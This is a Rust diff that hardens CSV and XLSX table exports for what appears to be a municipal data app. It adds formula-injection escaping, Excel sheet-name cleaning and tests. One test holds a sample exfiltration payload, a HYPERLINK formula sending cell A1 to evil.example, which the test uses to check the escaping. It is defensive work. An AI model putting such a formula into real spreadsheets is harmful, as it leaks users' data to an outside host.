@@ -75,15 +75,15 @@ impl Table {
         self.rows.push(row);
     }
 
-    /// The table as CSV text.
+    /// The table as CSV text, every text cell [`spreadsheet_safe`].
     pub(crate) fn to_csv(&self) -> Result<Vec<u8>, AppError> {
         let failed = |error: csv::Error| AppError::Internal(format!("writing CSV: {error}"));
         let mut writer = csv::WriterBuilder::new().delimiter(b';').from_writer("\u{feff}".as_bytes().to_vec());
-        writer.write_record(&self.headers).map_err(failed)?;
+        writer.write_record(self.headers.iter().map(|header| spreadsheet_safe(header))).map_err(failed)?;
         for row in &self.rows {
             writer
                 .write_record(row.iter().map(|value| match value {
-                    TableValue::Text(text) => text.clone(),
+                    TableValue::Text(text) => spreadsheet_safe(text),
                     TableValue::Number(number) => number.to_string(),
                     TableValue::Empty => String::new(),
                 }))
@@ -97,10 +97,9 @@ impl Table {
         let failed = |error: rust_xlsxwriter::XlsxError| AppError::Internal(format!("writing XLSX: {error}"));
         let mut workbook = Workbook::new();
         let sheet = workbook.add_worksheet();
-        // Sheet names are at most 31 characters and exclude []:*?/\.
-        let name: String = self.title.chars().filter(|character| !"[]:*?/\\".contains(*character)).take(31).collect();
-        if !name.trim().is_empty() {
-            sheet.set_name(name.trim()).map_err(failed)?;
+        let name = sheet_name(&self.title);
+        if !name.is_empty() {
+            sheet.set_name(&name).map_err(failed)?;
         }
         let bold = rust_xlsxwriter::Format::new().set_bold();
         for (column, header) in self.headers.iter().enumerate() {
@@ -148,6 +147,20 @@ impl Table {
     }
 }
 
+/// A text cell as spreadsheet programs will not run it: one starting with `=`, `+`, `-` or `@`
+/// (a formula, CSV injection), or with a tab or carriage return, gets a leading apostrophe.
+pub(crate) fn spreadsheet_safe(value: &str) -> String {
+    if value.starts_with(['=', '+', '-', '@', '\t', '\r']) { format!("'{value}") } else { value.to_owned() }
+}
+
+/// A worksheet's name as Excel accepts it: at most 31 characters, none of `[]:*?/\`, and not
+/// starting or ending with an apostrophe (Hengelo has the buurten 't Wilbert and 't Rot).
+fn sheet_name(title: &str) -> String {
+    let kept: String = title.chars().filter(|character| !"[]:*?/\\".contains(*character)).collect();
+    let name: String = kept.trim().trim_matches('\'').trim().chars().take(31).collect();
+    name.trim_end().trim_end_matches('\'').to_owned()
+}
+
 fn column_index(column: usize) -> u16 {
     u16::try_from(column).unwrap_or(u16::MAX)
 }
@@ -167,6 +180,33 @@ mod tests {
     fn csv_has_a_byte_order_mark_semicolons_and_quotes_where_needed() {
         let text = String::from_utf8(table().to_csv().unwrap()).unwrap();
         assert_eq!(text, "\u{feff}gebied;waarde\nHengelose Es;78.5\n\"Noord; \"\"Oost\"\"\";\n");
+    }
+
+    #[test]
+    fn csv_cells_never_start_a_formula() {
+        let mut table = Table::new("t".into(), vec!["=kop".into()]);
+        table.push(vec!["=HYPERLINK(\"http://evil.example/?\"&A1,\"Klik\")".to_owned().into()]);
+        for dangerous in ["+1", "-1+1", "@SUM(A1)", "\tx", "\rx"] {
+            table.push(vec![dangerous.to_owned().into()]);
+        }
+        let text = String::from_utf8(table.to_csv().unwrap()).unwrap();
+        for line in text.trim_start_matches('\u{feff}').lines() {
+            let cell = line.trim_start_matches('"');
+            assert!(cell.starts_with('\''), "{line:?} in {text:?}");
+        }
+        assert_eq!(spreadsheet_safe("griffie@hengelo.example"), "griffie@hengelo.example");
+        assert_eq!(spreadsheet_safe("Hengelose Es"), "Hengelose Es");
+    }
+
+    #[test]
+    fn sheet_names_are_ones_excel_accepts() {
+        assert_eq!(sheet_name("'t Wilbert 2024"), "t Wilbert 2024");
+        assert_eq!(sheet_name("Overzicht [2025]: wijk/buurt?"), "Overzicht 2025 wijkbuurt");
+        assert_eq!(sheet_name("Een heel erg lange naam van een buurt in 2025"), "Een heel erg lange naam van een");
+        assert_eq!(sheet_name("''"), "");
+        let mut table = Table::new("'t Rot 2024".into(), vec!["gebied".into()]);
+        table.push(vec!["'t Rot".to_owned().into()]);
+        assert!(table.to_xlsx().unwrap().starts_with(b"PK"), "refused before: a name may not start with an apostrophe");
     }
 
     #[test]
